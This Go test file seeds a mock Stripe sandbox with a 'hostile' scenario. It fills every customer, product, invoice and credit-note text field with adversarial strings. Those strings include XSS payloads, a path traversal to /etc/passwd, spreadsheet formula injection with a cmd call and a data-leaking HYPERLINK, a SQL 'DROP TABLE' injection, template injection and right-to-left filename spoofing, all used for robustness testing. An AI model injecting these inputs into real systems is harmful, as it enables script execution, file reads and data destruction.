package sandbox

import (
	"bytes"
	"strconv"
	"strings"
	"time"
)

// loneMark stands for half a character until the answer is written; it is of
// Unicode's private use area.
const loneMark = "\uE0D8"

// spoil puts the lone surrogates in.
func (s scenario) spoil(body []byte) []byte {
	if !s.loneSurrogates {
		return body
	}
	return bytes.ReplaceAll(body, []byte(loneMark), []byte(`\ud83d`))
}

// hostileTexts is what reaches every field one day: each of them has broken
// some program that took text for something else.
var hostileTexts = []string{
	`<script>alert(document.domain)</script>`,
	`"><img src=x onerror=alert(1)>`,
	"Invoice \u202Efdp.exe\u202C \u2066right to left\u2069",
	`../../../../etc/passwd`,
	`..\..\CON.txt:stream`,
	`=HYPERLINK("http://example.invalid/?"&A1,"Pay")`,
	"+1+cmd|' /C calc'!A0",
	`-2+3`,
	"@SUM(1+1)*cmd",
	"\tindented, \"quoted\"; new\r\nline",
	"nul\x00 bell\x07 escape\x1b[31mred\x1b[0m delete\x7f",
	`'; DROP TABLE invoices; -- `,
	`{{constructor.constructor('return 1')()}} ${7*7} %s%n`,
	"Z\u0351\u036b\u0343\u036a\u0302a\u0321\u035a\u0323l\u0334\u0358\u0341go \U0001F468\u200D\U0001F469\u200D\U0001F467\u200D\U0001F466 \U0001F3F4\U000E0067\U000E0062\U000E007F",
	"half a character " + loneMark + ", zero\u200Bwidth\uFEFF, \u2028separator\u2029, \uFFFD\uFFFF",
	"السعر ٢٠ דולר 二十 ยี่สิบ २०",
}

// longText is a description as somebody once pasted one: 10,000 characters
// without a place to break.
var longText = strings.Repeat("Wide", 2500)

// hostileText is the n-th, over and over.
func hostileText(n int) string { return hostileTexts[n%len(hostileTexts)] }

// allHostile is every short one in a row, for fields there is only one of.
func allHostile() string { return strings.Join(hostileTexts, " / ") }

// hostileScenario has every text of hostileTexts in every field that holds text,
// those Stripe itself writes included.
func hostileScenario() scenario {
	return scenario{
		Scenario: Scenario{
			Name:        "hostile",
			Description: "Script tags, right-to-left overrides, path separators, spreadsheet formulas and endless words in every text field.",
		},
		seller: seller{name: allHostile(), country: "US", descriptor: allHostile()},
		// Renewals and sales take turns, and both are to have every text.
		inscribe:       func(n int64) string { return hostileText(int(n/2)) + " " + strconv.FormatInt(n, 10) },
		loneSurrogates: true,
		seed: func(s *seeding, now time.Time) string {
			start := now.AddDate(0, -len(hostileTexts), 12)
			s.at(start)
			subscriber := s.hostileCustomer()
			tax := s.hostileSubscription(subscriber)
			for n := range hostileTexts {
				s.at(start.AddDate(0, n, 3))
				s.hostileSale(subscriber, tax, n)
			}
			return subscriber
		},
	}
}

func (s *seeding) hostileCustomer() string {
	text := allHostile()
	id := s.post("/v1/customers", "name", text, "email", text+"@example.com", "phone", text, "description", longText,
		"address[line1]", text, "address[line2]", longText, "address[city]", text, "address[state]", text,
		"address[postal_code]", text, "address[country]", "US", "metadata[note]", text, "preferred_locales[0]", text)
	for n := range hostileTexts {
		s.post("/v1/customers/"+id+"/tax_ids", "type", "th_vat", "value", hostileText(n))
	}
	var card string
	for _, text := range []string{longText, text} {
		card = s.post("/v1/payment_methods", "type", "card", "card[token]", "tok_visa",
			"billing_details[name]", text, "billing_details[email]", text, "billing_details[phone]", text,
			"billing_details[address][line1]", text, "billing_details[address][line2]", text,
			"billing_details[address][city]", text, "billing_details[address][state]", text,
			"billing_details[address][postal_code]", text, "billing_details[address][country]", "US", "metadata[note]", text)
		s.post("/v1/payment_methods/"+card+"/attach", "customer", id)
		// Brand, country and bank are Stripe's own words, and still only text to us.
		if method := s.paymentMethods.find(card); method != nil && text != longText {
			method.Card.Brand, method.Card.DisplayBrand = text, nullableText(text)
		}
	}
	s.post("/v1/customers/"+id, "invoice_settings[default_payment_method]", card)
	return id
}

func (s *seeding) hostileSubscription(subscriber string) (tax string) {
	text := allHostile()
	tax = s.post("/v1/tax_rates", "display_name", text, "percentage", "8.875", "inclusive", "false", "country", "US",
		"state", text, "jurisdiction", text, "description", longText, "tax_type", "sales_tax", "metadata[note]", text)
	of := s.post("/v1/products", "name", text, "description", longText, "statement_descriptor", text, "unit_label", text, "metadata[note]", text)
	monthly := s.post("/v1/prices", "product", of, "currency", "usd", "unit_amount", "2000", "recurring[interval]", "month",
		"nickname", text, "lookup_key", text, "metadata[note]", text)
	s.post("/v1/subscriptions", "customer", subscriber, "items[0][price]", monthly, "default_tax_rates[0]", tax,
		"description", text, "metadata[note]", text)
	return tax
}

// hostileSale is a one-off invoice with a line for every text and one that is
// 10,000 characters long, and a credit note on it.
func (s *seeding) hostileSale(subscriber, tax string, n int) {
	text := hostileText(n)
	bill := s.post("/v1/invoices", "customer", subscriber, "currency", "usd", "description", text, "footer", longText,
		"statement_descriptor", text, "default_tax_rates[0]", tax, "metadata[note]", text)
	s.post("/v1/invoiceitems", "customer", subscriber, "invoice", bill, "currency", "usd", "amount", "1000",
		"description", text, "metadata[note]", text)
	s.post("/v1/invoiceitems", "customer", subscriber, "invoice", bill, "currency", "usd", "amount", "500", "description", longText)
	s.post("/v1/invoices/" + bill + "/finalize")
	s.post("/v1/invoices/" + bill + "/pay")
	s.post("/v1/credit_notes", "invoice", bill, "amount", "100", "refund_amount", "100", "memo", text, "metadata[note]", text)
	if paid := s.invoices.find(bill); paid != nil {
		paid.ReceiptNumber = nullableText(text)
	}
}
